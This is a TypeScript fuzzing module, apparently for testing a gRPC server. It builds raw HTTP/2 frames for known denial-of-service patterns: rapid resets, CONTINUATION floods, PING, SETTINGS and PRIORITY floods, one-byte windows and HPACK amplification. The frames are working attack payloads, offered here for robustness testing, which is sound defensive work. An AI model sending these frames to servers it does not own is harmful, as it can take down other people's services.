/** Frames of HTTP/2 that no client sends, in the order in which they do the most harm. */
import { frame } from "../fuzz/connections.ts";

const [DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION] = [
  0, 1, 2, 3, 4, 6, 8, 9,
] as const;
const END_STREAM = 1;
const END_HEADERS = 4;

/** What a client sends first: the preface and empty settings. */
export const opening = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame(SETTINGS, 0, 0, Buffer.alloc(0)),
]);

/** A text of less than 127 bytes, as HPACK has it without compression. */
const text = (value: string) => Buffer.from([value.length, ...Buffer.from(value)]);
const field = (name: string, value: string) =>
  Buffer.concat([Buffer.of(0), text(name), text(value)]);

/** The headers of a call; `:method` and `:scheme` are of HPACK's static table. */
const headers = (path = "/meguri.points.v1.PointsService/GetBalance") =>
  Buffer.concat([
    Buffer.of(0x83, 0x86),
    field(":path", path),
    field(":authority", "x"),
    field("content-type", "application/grpc"),
    field("te", "trailers"),
  ]);

const call = (stream: number, flags: number, block = headers()) =>
  frame(HEADERS, flags, stream, block);
const cancel = (stream: number) => frame(RESET, 0, stream, Buffer.of(0, 0, 0, 8));
const inTable = Buffer.concat([Buffer.of(0x40), text("x-big"), text("z".repeat(120))]);

/** Each returns the frames of its turn `n` on one connection, from turn 0 on. */
export const abuses: Readonly<Record<string, (n: number) => readonly Buffer[]>> = {
  "rapid resets": (n) => [call(2 * n + 1, END_HEADERS), cancel(2 * n + 1)],
  "rapid resets of whole calls": (n) => [
    call(2 * n + 1, END_HEADERS),
    frame(DATA, END_STREAM, 2 * n + 1, Buffer.alloc(5)),
    cancel(2 * n + 1),
  ],
  "headers without an end": (n) =>
    n === 0 ? [call(1, 0)] : [frame(CONTINUATION, 0, 1, field(`x-${n}`, "y".repeat(100)))],
  "empty headers without an end": (n) =>
    n === 0 ? [call(1, 0)] : [frame(CONTINUATION, 0, 1, Buffer.alloc(0))],
  pings: () => [frame(PING, 0, 0, Buffer.alloc(8))],
  settings: () => [frame(SETTINGS, 0, 0, Buffer.of(0, 4, 0, 0, 255, 255))],
  priorities: (n) => [frame(PRIORITY, 0, 2 * n + 1, Buffer.of(0, 0, 0, 0, 1))],
  "windows of one byte": () => [frame(WINDOW, 0, 0, Buffer.of(0, 0, 0, 1))],
  "headers from the table": (n) =>
    n === 0
      ? [call(1, END_HEADERS | END_STREAM, Buffer.concat([headers(), inTable]))]
      : [call(2 * n + 1, END_HEADERS | END_STREAM, Buffer.concat([headers(), filler]))],
  "empty data": (n) => (n === 0 ? [call(1, END_HEADERS)] : [frame(DATA, 0, 1, Buffer.alloc(0))]),
  "methods that do not exist": (n) => [
    call(2 * n + 1, END_HEADERS | END_STREAM, headers(`/x.y/${n}`)),
  ],
};

/** References to the newest entry of the table, one byte each. */
const filler = Buffer.alloc(4_000, 0x80 | 62);
